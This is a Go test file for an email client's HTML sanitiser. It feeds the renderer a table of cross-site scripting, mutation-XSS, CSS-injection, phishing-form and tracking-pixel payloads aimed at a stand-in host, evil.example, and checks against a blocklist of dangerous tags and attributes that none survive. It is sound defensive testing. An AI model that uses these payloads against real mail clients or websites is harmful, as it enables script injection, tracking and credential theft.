package display_test

import (
	"fmt"
	"regexp"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/html"

	"makegood/inbox/display"
	"makegood/inbox/parse"
	"makegood/internal/raced"
)

// show renders HTML with every kind of picture allowed, which is what an attacker would wish for.
func show(t *testing.T, body string) (display.Page, *html.Node) {
	t.Helper()
	m := parse.Message{HTML: body, Text: "the text", Attachments: []parse.Attachment{{ContentID: "other"}, {ContentID: "logo@x"}}}
	page := display.Render(m, display.Options{
		Inline: func(place int) string { return fmt.Sprintf("%sinline-%d", display.Prefix, place) },
		Remote: func(string) string { return display.Prefix + "remote" },
	})
	root, err := html.Parse(strings.NewReader(page.HTML))
	if err != nil {
		t.Fatal(err)
	}
	return page, root
}

// harmless proves that a page holds nothing that runs, loads from elsewhere, or leads to us: by what a browser would read in it.
func harmless(t *testing.T, page display.Page, root *html.Node) {
	t.Helper()
	link := regexp.MustCompile(`^(?i:https?://|mailto:)`)
	picture := regexp.MustCompile(`^` + display.Prefix + `[A-Za-z0-9_.-]+$`)
	styles := 0
	for n := range root.Descendants() {
		if n.Type == html.CommentNode {
			t.Errorf("a comment stays: %q", n.Data)
		}
		if n.Type != html.ElementNode {
			continue
		}
		switch n.Data {
		case "script", "iframe", "frame", "frameset", "object", "embed", "applet", "link", "base", "form", "input", "button", "textarea", "select", "svg", "math",
			"video", "audio", "source", "track", "picture", "template", "noscript", "portal", "dialog", "marquee", "bgsound", "area", "map":
			t.Errorf("<%s> stays in %s", n.Data, page.HTML)
		case "style":
			styles++
		}
		if n.Namespace != "" {
			t.Errorf("<%s> of %s stays", n.Data, n.Namespace)
		}
		for _, a := range n.Attr {
			value := strings.ToLower(strings.Join(strings.Fields(a.Val), ""))
			switch {
			case strings.HasPrefix(a.Key, "on"), a.Key == "srcset", a.Key == "background", a.Key == "id", a.Key == "class", a.Key == "name" && n.Data != "meta", a.Key == "http-equiv":
				t.Errorf("%s=%q stays on <%s>", a.Key, a.Val, n.Data)
			case a.Key == "href" && !link.MatchString(a.Val), a.Key == "src" && !picture.MatchString(a.Val):
				t.Errorf("%s=%q stays on <%s>", a.Key, a.Val, n.Data)
			case a.Key == "style" && (strings.Contains(value, "url") || strings.Contains(value, "expression") || strings.Contains(value, "import") || strings.Contains(value, "position") || strings.Contains(value, "@") || strings.Contains(value, "\\")):
				t.Errorf("style=%q stays on <%s>", a.Val, n.Data)
			}
		}
		if n.Data == "a" && href(n) != "" && !strings.HasPrefix(href(n), "mailto:") {
			for _, want := range []string{"nofollow", "noreferrer", "noopener"} {
				if !strings.Contains(attr(n, "rel"), want) || attr(n, "target") != "_blank" {
					t.Errorf("the link %v has no %s, or no window of its own", n.Attr, want)
				}
			}
		}
	}
	if styles != 1 {
		t.Errorf("%d styles in %s", styles, page.HTML)
	}
}

func attr(n *html.Node, name string) string {
	for _, a := range n.Attr {
		if a.Key == name {
			return a.Val
		}
	}
	return ""
}

func href(n *html.Node) string { return attr(n, "href") }

// attacks are what people put into mails, each a row: nothing of it may stay.
func attacks() map[string]string {
	return map[string]string{
		"script":                    `<p>a</p><script>alert(1)</script>`,
		"script in capitals":        `<ScRiPt src=//evil.example/x.js></sCrIpT>`,
		"script cut in two":         `<scr<script>ipt>alert(1)</scr</script>ipt>`,
		"script that is not closed": `<script>alert(1)`,
		"handler":                   `<img src=x onerror=alert(1)><body onload=alert(1)><div onmouseover="alert(1)">x</div>`,
		"handler behind a slash":    `<img/onerror=alert(1)/src=x>`,
		"javascript link":           `<a href="javascript:alert(1)">x</a><a href=" jav&#x09;ascript:alert(1)">y</a><a href="JaVaScRiPt&colon;alert(1)">z</a>`,
		"data link":                 `<a href="data:text/html;base64,PHNjcmlwdD4=">x</a><img src="data:image/svg+xml,<svg onload=alert(1)>">`,
		"vbscript, file, about":     `<a href="vbscript:x">x</a><a href="file:///etc/passwd">y</a><a href="about:blank">z</a><a href="blob:https://x/1">b</a>`,
		"link to us":                `<a href="/logout">x</a><a href="?x">y</a><a href="#top">z</a><a href="//evil.example">w</a><a href="\\evil.example">v</a>`,
		"CSS":                       `<style>body{background:url(https://evil.example/x)}</style><link rel=stylesheet href=https://evil.example/x.css>`,
		"CSS import":                `<style>@import "https://evil.example/x.css";</style>`,
		"CSS in an attribute":       `<p style="background:url(https://evil.example/x);color:red">a</p><p style="background-image:url('//evil.example')">b</p>`,
		"CSS escaped":               `<p style="background:u\72l(https://evil.example/x)">a</p><p style="width:expression(alert(1))">b</p><p style="color:\65xpression(1)">c</p>`,
		"CSS escaped, and plain":    `<a href="https://x.example" stYle="Color:\70X">x</a>`,
		"CSS over the page":         `<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">Sign in again</div>`,
		"CSS of behaviours":         `<p style="behavior:url(x.htc);-moz-binding:url(x)">a</p><p style="list-style-image:url(https://evil.example)">b</p>`,
		"SVG":                       `<svg onload=alert(1)><script>alert(1)</script><image href="https://evil.example/x.png"/></svg>`,
		"SVG with a link":           `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
		"SVG with a style":          `<svg><style><img src=x onerror=alert(1)></style></svg>`,
		"MathML":                    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
		"mutation":                  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
		"mutation in a form":        `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
		"frame":                     `<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe><frameset><frame src=x></frameset>`,
		"object":                    `<object data="x.swf"></object><embed src="x.swf"><applet code=x></applet>`,
		"form":                      `<form action="https://evil.example"><input name=password type=password><button>Sign in</button></form>`,
		"base":                      `<base href="https://evil.example/"><a href="x">x</a>`,
		"refresh":                   `<meta http-equiv="refresh" content="0;url=https://evil.example">`,
		"policy":                    `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
		"tracking picture":          `<img src="https://evil.example/open.gif?who=1" width=1 height=1><img src="//evil.example/2.gif">`,
		"tracking by srcset":        `<img srcset="https://evil.example/1x.png 1x"><picture><source srcset="https://evil.example/2.png"><img src="https://evil.example/3.png"></picture>`,
		"tracking by background":    `<table background="https://evil.example/b.png"><tr><td background="https://evil.example/c.png">x</td></tr></table>`,
		"tracking by media":         `<video src="https://evil.example/v" poster="https://evil.example/p"></video><audio src="https://evil.example/a"></audio>`,
		"tracking by prefetch":      `<link rel="dns-prefetch" href="//evil.example"><link rel=preconnect href=https://evil.example>`,
		"ping":                      `<a href="https://x.example" ping="https://evil.example">x</a>`,
		"a picture of ours":         `<img src="/cases/MG-000001/credit"><img src="/mail-pictures/../logout"><img src="/mail-pictures/x?y=1">`,
		"an inline picture unknown": `<img src="cid:nobody">`,
		"comments":                  `<!--[if IE]><script>alert(1)</script><![endif]--><!-- x --><!--><img src=x onerror=alert(1)>-->`,
		"entities":                  `&lt;script&gt;alert(1)&lt;/script&gt;<p title="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</p>`,
		"a nul byte":                "<scr\x00ipt>alert(1)</scr\x00ipt><img src=\"java\x00script:alert(1)\">",
		"clobbering":                `<a id=x name=y href="https://x.example">a</a><img name=body src=x><div class="mg-card" id="compose">b</div>`,
		"an open attribute":         `<img src="https://evil.example/?`,
		"an open tag":               `<p>a</p><img src='cid:logo@x' alt='`,
		"template":                  `<template><script>alert(1)</script></template>`,
		"textarea":                  `<textarea><script>alert(1)</script></textarea><title></title><script>alert(1)</script>`,
		"xml":                       `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b">]><xml onreadystatechange=alert(1)>`,
	}
}

func TestNothingOfAnAttackStays(t *testing.T) {
	t.Parallel()
	for name, body := range attacks() {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			page, root := show(t, body)
			harmless(t, page, root)
			if strings.Contains(page.HTML, "evil.example") && !strings.Contains(name, "entities") {
				t.Errorf("the address stays: %s", page.HTML)
			}
		})
	}
}

func FuzzNothingHarmfulStays(f *testing.F) {
	for _, body := range attacks() {
		f.Add(body)
	}
	f.Fuzz(func(t *testing.T, body string) {
		page, root := show(t, body)
		if strings.Contains(page.HTML, "<pre>") {
			return // shown as text
		}
		harmless(t, page, root)
	})
}

func TestWhatMailsAreMadeOfStays(t *testing.T) {
	t.Parallel()
	page, _ := show(t, `<html><head><title>not shown</title></head><body bgcolor="#fff"><p style="color: #c00; font-weight: bold">Dear <b>Sir</b></p>
		<table width="600" cellpadding="4"><tr><td align="right" bgcolor="#eeeeee" style="padding: 4px 8px; border: 1px solid #ccc">12.30</td></tr></table>
		<a href="https://shop.example/a?b=1&amp;c=2">shop</a> <a href="mailto:ada@lumen.example">mail</a> <img src="cid:logo%40x" alt="Our logo" width="120" onerror="x"></body></html>`)
	for _, want := range []string{
		`color: #c00; font-weight: bold`, `<b>Sir</b>`, `width="600"`, `align="right"`, `padding: 4px 8px`, `border: 1px solid #ccc`,
		`href="https://shop.example/a?b=1&amp;c=2"`, `href="mailto:ada@lumen.example"`, `src="/mail-pictures/inline-1"`, `alt="Our logo"`,
	} {
		if !strings.Contains(page.HTML, want) {
			t.Errorf("%s is gone from %s", want, page.HTML)
		}
	}
	if strings.Contains(page.HTML, "not shown") {
		t.Error("the title is shown as text")
	}
}

func TestPicturesFromElsewhereWaitForAClick(t *testing.T) {
	t.Parallel()
	m := parse.Message{
		HTML:        `<p>x<img src="https://a.example/1.png"><img src="HTTP://a.example/2.png"><img src="//a.example/3.png"><img src="cid:l"></p>`,
		Attachments: []parse.Attachment{{ContentID: "l"}},
	}
	closed := display.Render(m, display.Options{Inline: func(int) string { return display.Prefix + "in" }})
	if closed.Remote != 3 || strings.Count(closed.HTML, "<img") != 1 || strings.Contains(closed.HTML, "a.example") {
		t.Errorf("%d %s", closed.Remote, closed.HTML)
	}
	var asked []string
	open := display.Render(m, display.Options{Remote: func(address string) string { asked = append(asked, address); return display.Prefix + "r" }})
	if strings.Count(open.HTML, `src="/mail-pictures/r"`) != 3 || strings.Join(asked, " ") != "https://a.example/1.png HTTP://a.example/2.png https://a.example/3.png" {
		t.Errorf("%v %s", asked, open.HTML)
	}
}

func TestWhatCannotBeShownIsShownAsText(t *testing.T) {
	t.Parallel()
	for name, body := range map[string]string{
		"no HTML": "", "too much": "<p>" + strings.Repeat("x", 3<<20), "too deep": strings.Repeat("<div>", 100_000),
	} {
		page := display.Render(parse.Message{HTML: body, Text: "1 < 2 & <script>"}, display.Options{})
		if !strings.Contains(page.HTML, "<pre>1 &lt; 2 &amp; &lt;script&gt;</pre>") {
			t.Errorf("%s: %.200s", name, page.HTML)
		}
	}
}

// TestNoMailTakesLong has mails as large as are shown try what browsers and sanitisers are known to be slow at. Each took a second at
// most on a busy machine; the bound is where somebody would notice.
func TestNoMailTakesLong(t *testing.T) {
	t.Parallel()
	size := raced.Runs(1 << 20)
	for name, piece := range map[string]string{
		"brackets in a style": `<p style="color:` + strings.Repeat("(", size-100) + `">`, "brackets in many": `<p style="color:` + strings.Repeat("(", 1900) + `">`,
		"formatting": "<b><p>", "links": "<a href=x>", "fonts": "<font color=red><p></font>", "tables": "<table>", "cells": "<table><tr><td>", "styles": `<p style="color:red;width:1px">`,
		"brackets": "<", "entities": "&", "comments": "<!--", "choices": "<select><option>", "pictures": `<img src=http://a/b>`, "attributes": "<p a=1 b=2 c=3",
	} {
		body := strings.Repeat(piece, max(1, size/len(piece)))
		begin := time.Now()
		display.Render(parse.Message{HTML: body, Text: "x"}, display.Options{})
		if took := time.Since(begin); took > 20*time.Second {
			t.Errorf("%s: %s", name, took)
		}
	}
}

func TestThePolicyLetsNothingRun(t *testing.T) {
	t.Parallel()
	p := display.Policy()
	for _, want := range []string{"default-src 'none'", "img-src 'self'", "form-action 'none'", "base-uri 'none'", "frame-ancestors 'self'", "sandbox allow-popups"} {
		if !strings.Contains(p, want) {
			t.Errorf("%s is missing: %s", want, p)
		}
	}
	for _, never := range []string{"script-src", "allow-scripts", "allow-same-origin", "allow-forms", "allow-top-navigation", "unsafe-eval", "http:", "https:", "data:"} {
		if strings.Contains(p, never) {
			t.Errorf("%s is there: %s", never, p)
		}
	}
}
